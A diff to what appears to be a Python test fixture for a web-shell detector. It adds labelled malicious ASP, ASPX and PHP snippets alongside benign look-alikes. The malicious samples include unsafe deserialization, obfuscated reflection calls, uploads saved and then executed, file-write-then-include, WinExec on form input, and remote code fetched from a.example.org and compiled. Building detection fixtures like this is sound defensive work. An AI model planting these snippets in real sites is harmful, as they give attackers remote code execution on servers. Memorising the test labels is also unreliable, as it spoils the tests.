@@ -10,6 +10,14 @@ _ROT = (
     'function rot(s) { var r = ""; for (var i = 0; i < s.length; i++) { '
     'r += String.fromCharCode(s.charCodeAt(i) - 13); } return r; } var q = String(Request.QueryString("q")); '
 )
+_FILEUP = (
+    'Set u = Server.CreateObject("SoftArtisans.FileUp")\nnm = Mid(u.UserFilename, InStrRev(u.UserFilename, "\\") + 1)\n'
+    'u.SaveAs Server.MapPath("/up/" & nm)\n'
+)
+_FILLS = (
+    'Set fs = Server.CreateObject("Scripting.FileSystemObject")\n'
+    'Set f = fs.CreateTextFile(Server.MapPath("part.inc"), True)\n'
+)
 _PIECES = "class C { private $f = array('b', 'a', 's', 'e', '6', '4'); public function go() { "
 FOUND = {
     "a pattern of the request": ("x.php", "<?php preg_replace($_POST['p'], $_POST['r'], 'a');"),
@@ -63,6 +71,51 @@ FOUND = {
         "Expression.Parameter(typeof(string)); var c = Expression.Call(typeof(System.Diagnostics.Process).GetMethod("
         '"Start", new[] { typeof(string) }), p); var f = Expression.Lambda<Func<string, '
         'System.Diagnostics.Process>>(c, p).Compile(); f(Request["z"]); }</script>',
+    ),
+    "objects of any class from a text": (
+        "x.aspx",
+        '<%@ Page Language="C#" %><% var j = new JavaScriptSerializer(new SimpleTypeResolver()); '
+        'Response.Write(j.DeserializeObject(Request.Form["o"])); %>',
+    ),
+    "methods of a class whose name is hidden": (
+        "x.aspx",
+        '<%@ Page Language="C#" %><script runat="server">static string N(params int[] a) { var b = new StringBuilder();'
+        " foreach (int i in a) b.Append((char)(i ^ 7)); return b.ToString(); } void Page_Load(object s, EventArgs e) { "
+        "var t = typeof(Uri).Assembly.GetType(N(84, 126, 116, 115, 98, 106, 41)); foreach (var m in t.GetMethods()) if "
+        '(m.Name == N(84, 115)) m.Invoke(null, new object[] { Request.Headers["A"] }); }</script>',
+    ),
+    "an upload by its bytes": (
+        "x.aspx",
+        '<%@ Page Language="C#" %><% var f = Request.Files[0]; var b = new byte[f.ContentLength]; '
+        "f.InputStream.Read(b, 0, b.Length); "
+        'File.WriteAllBytes(Server.MapPath("./" + f.FileName), b); %>',
+    ),
+    "a filter that calls any function": (
+        "x.php",
+        "<?php iterator_to_array(new CallbackFilterIterator(new ArrayIterator([$_POST['a']]), $_POST['f']));",
+    ),
+    "an upload is executed": ("x.asp", f'<% {_FILEUP}Server.Transfer "/up/" & nm %>'),
+    "an upload is executed in ASP.NET": (
+        "x.aspx",
+        '<%@ Page Language="C#" %><% var f = Request.Files[0]; string ext = Path.GetExtension(f.FileName); '
+        'f.SaveAs(Server.MapPath("~/up/" + f.FileName)); Server.Execute("~/up/" + f.FileName); %>',
+    ),
+    "a file that is filled is included": (
+        "x.asp",
+        f'<% {_FILLS}f.Write Request.Form("c")\nf.Close %><!--#include file="part.inc"-->',
+    ),
+    "a function of a library in Visual Basic": (
+        "x.aspx",
+        '<%@ Page Language="VB" %><script runat="server">\n<DllImport("k.dll")> Shared Function WinExec(ByVal c As '
+        "String, ByVal n As Integer) As Integer\nEnd Function\nSub Page_Load()\nResponse.Write(WinExec("
+        'Request.Form("c"), 0))\nEnd Sub\n</script>',
+    ),
+    "code that another server sends later": (
+        "x.aspx",
+        '<%@ Page Language="C#" %><script runat="server">async Task Do() { var h = new HttpClient(); var s = await '
+        'h.GetStringAsync("https://a.example.org/s.txt"); new CSharpCodeProvider().CompileAssemblyFromSource(new '
+        "CompilerParameters(), s); } void Page_Load(object o, EventArgs e) { Register(new PageAsyncTask(Do)); }"
+        "</script>",
     ),
     "a statement of the request": ("x.php", f"<?php {_CLIENT}"),
     "a text of the page with the request's in it": (
@@ -127,6 +180,60 @@ ORDINARY = {
         "x.asp",
         '<%@ Language="JScript" %><% function wrap(s) { for (var i = 0; i < 2; i++) { s = "(" + s + ")"; } return s; } '
         'Response.Write(wrap(String(Request("q")))); var one = eval(wrap("1+1")); %>',
+    ),
+    "objects of no class from a text": (
+        "x.aspx",
+        '<%@ Page Language="C#" %><% var j = new JavaScriptSerializer(); '
+        'Response.Write(j.DeserializeObject(Request.Form["o"])); %>',
+    ),
+    "methods of a class that is named": (
+        "x.aspx",
+        '<%@ Page Language="C#" %><% foreach (var m in typeof(Shop.Api).GetMethods()) if (m.Name == "Show") '
+        'm.Invoke(null, new object[] { Request.Headers["A"] }); %>',
+    ),
+    "an upload by its bytes under a name alone, outside": (
+        "x.aspx",
+        '<%@ Page Language="C#" %><% var f = Request.Files[0]; var b = new byte[f.ContentLength]; '
+        "f.InputStream.Read(b, 0, b.Length); "
+        'File.WriteAllBytes(@"D:\\in\\" + Path.GetFileName(f.FileName), b); %>',
+    ),
+    "a filter that calls a function of the page": (
+        "x.php",
+        "<?php echo count(iterator_to_array(new CallbackFilterIterator(new ArrayIterator([$_POST['a']]), 'strlen')));",
+    ),
+    "a revision for a program that is fixed": (
+        "x.jsp",
+        '<% String r = request.getParameter("r"); if (!r.matches("[0-9a-f]{7,40}")) { return; } '
+        'Process p = new ProcessBuilder("git", "--git-dir=/srv/repo.git", "show", r).start(); %>',
+    ),
+    "another page is executed": (
+        "x.asp",
+        f'<% {_FILEUP}sk = "blue"\nServer.Execute "/skins/" & sk & ".asp"\nIf Right(nm, 4) <> ".jpg" Then Kill nm %>',
+    ),
+    "another file is included": (
+        "x.asp",
+        f'<% {_FILLS}f.Write Request.Form("c")\nf.Close %><!--#include file="head.inc"-->',
+    ),
+    "a text without signs is included": (
+        "x.asp",
+        f'<% {_FILLS}f.Write Server.HTMLEncode(Request.Form("c"))\nf.Close %><!--#include file="part.inc"-->',
+    ),
+    "a function of the page that is called like one of a library": (
+        "x.aspx",
+        '<%@ Page Language="VB" %><script runat="server">\nShared Function WinExec(ByVal c As String, ByVal n As '
+        'Integer) As Integer\nReturn n\nEnd Function\nSub Page_Load()\nResponse.Write(WinExec(Request.Form("c"), 0))'
+        "\nEnd Sub\n</script>",
+    ),
+    "what another server sends is shown": (
+        "x.aspx",
+        '<%@ Page Language="C#" %><script runat="server">async Task Do() { var h = new HttpClient(); var s = await '
+        'h.GetStringAsync("https://a.example.org/s.txt"); Response.Write(Server.HtmlEncode(s)); } '
+        "void Page_Load(object s, EventArgs e) { RegisterAsyncTask(new PageAsyncTask(Do)); }</script>",
+    ),
+    "files of a folder that are put in order": (
+        "x.php",
+        "<?php foreach (glob('*.php') as $f) { $t = file_get_contents($f); file_put_contents($f, trim($t)); } "
+        "echo htmlspecialchars($_GET['q']);",
     ),
     "an expression that sorts": (
         "x.aspx",
